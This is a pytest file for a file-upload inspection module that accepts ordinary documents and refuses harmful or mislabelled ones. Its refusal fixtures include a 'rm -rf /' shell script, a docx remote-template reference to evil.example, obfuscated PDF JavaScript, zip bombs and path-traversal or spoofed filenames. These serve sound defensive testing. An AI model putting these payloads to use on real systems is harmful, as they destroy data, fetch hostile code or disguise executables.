"""A file is what its content says; what could harm its reader is refused with words that help."""

import io

import pytest
from PIL import Image

from tests.documents import samples
from varv.core.errors import Invalid
from varv.documents import names, packed, pictures
from varv.documents.inspection import Found, inspect

GOOD = {
    "a.pdf": samples.pdf(),
    "squeezed.pdf": samples.squeezed(script=False),
    "a.jpg": samples.picture(),
    "A.JPEG": samples.picture(),
    "a.png": samples.picture("PNG"),
    "a.docx": samples.office("docx"),
    "a.xlsx": samples.office("xlsx"),
    "a.odt": samples.office("odt"),
    "a.txt": "Hej på dig < 5 & så".encode(),
    "gammal.txt": "Hej på dig".encode("cp1252"),
}
RELATION = '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm"/>'
BAD = {
    "svg": ("a.svg", samples.SVG),
    "svg as text": ("a.txt", samples.SVG),
    "svg as a picture": ("a.png", samples.SVG),
    "html": ("a.html", samples.HTML),
    "html as text": ("a.txt", samples.HTML),
    "html as pdf": ("a.pdf", samples.HTML),
    "html without a name": ("a", samples.HTML),
    "heic as jpeg": ("a.jpg", samples.HEIC),
    "gif": ("a.gif", samples.GIF),
    "gif as png": ("a.png", samples.GIF),
    "program": ("a.exe", samples.PROGRAM),
    "program as pdf": ("a.pdf", samples.PROGRAM),
    "program as text": ("a.txt", samples.PROGRAM),
    "shell": ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
    "png as jpeg": ("a.jpg", samples.picture("PNG")),
    "zip": ("a.zip", samples.packed({"a.txt": "x"})),
    "zip as docx": ("a.docx", samples.packed({"a.txt": "x"})),
    "xlsx as docx": ("a.docx", samples.office("xlsx")),
    "macros by name": ("a.docm", samples.office("docx")),
    "macros by kind": (
        "a.docx",
        samples.office("docx", main="application/vnd.ms-word.document.macroEnabled"),
    ),
    "macros inside": ("a.docx", samples.office("docx", word__vbaProject_dot_bin=b"x")),
    "macros in a sheet": ("a.xlsx", samples.office("xlsx", xl__vbaProject_dot_bin=b"x")),
    "macros in an odt": ("a.odt", samples.office("odt", Basic__Standard__x_dot_xml="x")),
    "scripts in an odt": ("a.odt", samples.office("odt", Scripts__python__x_dot_py="x")),
    "template from afar": (
        "a.docx",
        samples.office("docx", word___rels__settings_dot_xml_dot_rels=RELATION),
    ),
    "object inside": ("a.docx", samples.office("docx", word__embeddings__oleObject1_dot_bin=b"x")),
    "way out of the folder": (
        "a.docx",
        samples.packed({**{samples.TYPES: samples.MAIN["docx"] + ".main+xml"}, "../../x": "x"}),
    ),
    "docx cut off": ("a.docx", samples.office("docx")[:-40]),
    "pdf with script": ("a.pdf", samples.pdf("/JavaScript")),
    "pdf with a file": ("a.pdf", samples.pdf(enclosed=True)),
    "pdf with a password": ("a.pdf", samples.pdf(word="x")),
    "pdf that starts a program": ("a.pdf", samples.pdf("/Launch")),
    "pdf with packed script": ("a.pdf", samples.squeezed(script=True)),
    "pdf with spelled script": ("a.pdf", samples.pdf() + b"/J#61vaScript x\nstartxref\n0\n%%EOF"),
    "pdf cut off": ("a.pdf", samples.pdf()[:-30]),
    "pdf with a zip behind": ("a.pdf", samples.pdf() + samples.packed({"a": b"x" * 9000}, 0)),
    "pdf behind a page": ("a.pdf", samples.HTML + samples.pdf()),
    "jpeg cut off": ("a.jpg", samples.picture(size=(900, 900))[:800]),
    "nothing": ("a.pdf", b""),
    "empty text": ("a.txt", b"  \n "),
    "noise": ("a.pdf", bytes(range(256)) * 20),
}


def refused(name: str, content: bytes) -> str:
    """Return why a file was refused."""
    with pytest.raises(Invalid) as fault:
        inspect(name, content)
    return " ".join(fault.value.messages.values())


@pytest.mark.parametrize("name", GOOD)
def test_ordinary_files_are_taken(name: str) -> None:
    found = inspect(name, GOOD[name])
    assert found.name.lower() == name.lower() and found.content
    assert found.kind.media_type.split("/")[0] in ("application", "image", "text")


@pytest.mark.parametrize("what", BAD)
def test_what_is_harmful_broken_or_lying_is_refused_in_words(what: str) -> None:
    name, content = BAD[what]
    text = refused(name, content)
    assert name in text and text.endswith(".") and len(text) > 30


def test_the_words_say_what_to_do() -> None:
    assert "Spara bilden som JPEG" in refused("IMG_1.HEIC", samples.HEIC)
    assert "makron" in refused(*BAD["macros inside"])
    assert "PDF, JPEG, PNG" in refused("a.svg", samples.SVG)
    assert "utan lösenord" in refused(*BAD["pdf with a password"])
    assert "är tom" in refused("a.pdf", b"")


def test_a_bomb_is_refused_without_being_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packed, "MOST_UNPACKED", 1024 * 1024)
    assert "packad" in refused("a.docx", samples.bomb(8 * 1024 * 1024))
    assert refused("a.docx", samples.lying_bomb())
    many = samples.packed({f"{number}.xml": "" for number in range(packed.MOST_PARTS)})
    assert refused("a.docx", many)


def test_a_picture_with_too_many_pixels_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pictures, "MOST_PIXELS", 100)
    assert "megapixel" in refused("a.png", samples.picture("PNG"))


def test_a_picture_of_25_megapixels_is_the_largest() -> None:
    assert inspect("a.png", samples.picture("PNG", size=(5000, 5000), mode="1"))
    assert "högst 25 megapixel" in refused(
        "a.png", samples.picture("PNG", size=(5000, 5001), mode="1")
    )


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_a_picture_is_in_memory_once(form: str, monkeypatch: pytest.MonkeyPatch) -> None:
    content = samples.picture(form)
    monkeypatch.setattr(Image.Image, "copy", None)
    assert inspect({"JPEG": "a.jpg", "PNG": "a.png"}[form], content)


def test_what_a_camera_hides_does_not_come_along() -> None:
    found = inspect("a.jpg", samples.picture(exif=samples.camera()))
    with Image.open(io.BytesIO(found.content)) as kept:
        assert not kept.getexif() and kept.size == (20, 40), "and it stands upright"
    assert b"Kiruna" not in found.content


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_what_hides_behind_a_picture_does_not_come_along(form: str) -> None:
    behind = samples.packed({"a.class": "x"}) + samples.HTML
    name = {"JPEG": "a.jpg", "PNG": "a.png"}[form]
    found = inspect(name, samples.picture(form) + behind)
    assert b"PK" not in found.content and b"<script" not in found.content


def test_only_what_the_form_asks_for_is_taken() -> None:
    with pytest.raises(Invalid, match="PNG"):
        inspect("a.pdf", samples.pdf(), ["png", "jpeg"])
    assert inspect("a.jpg", samples.picture(), ["jpg"]).kind.key == "jpeg"


def test_a_name_without_an_ending_gets_the_right_one() -> None:
    assert inspect("intyg", samples.pdf()).name == "intyg.pdf"
    assert inspect("", samples.picture("PNG")).name.endswith(".png")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\x\\intyg.pdf", "intyg.pdf"),
        ("bild\u202egpj.exe", "bildgpj.exe"),
        ('<a "b">.pdf', "_a _b__.pdf"),
        ("a\r\nX: y.pdf", "aX_ y.pdf"),
        ("å" * 200 + ".pdf", "å" * 116 + ".pdf"),
        ("...", ""),
    ],
)
def test_a_name_is_made_safe(given: str, kept: str) -> None:
    assert names.clean(given) == kept


def test_text_is_kept_in_one_encoding() -> None:
    found: Found = inspect("a.txt", "Hej på dig".encode("utf-16"))
    assert found.content.decode() == "Hej på dig"
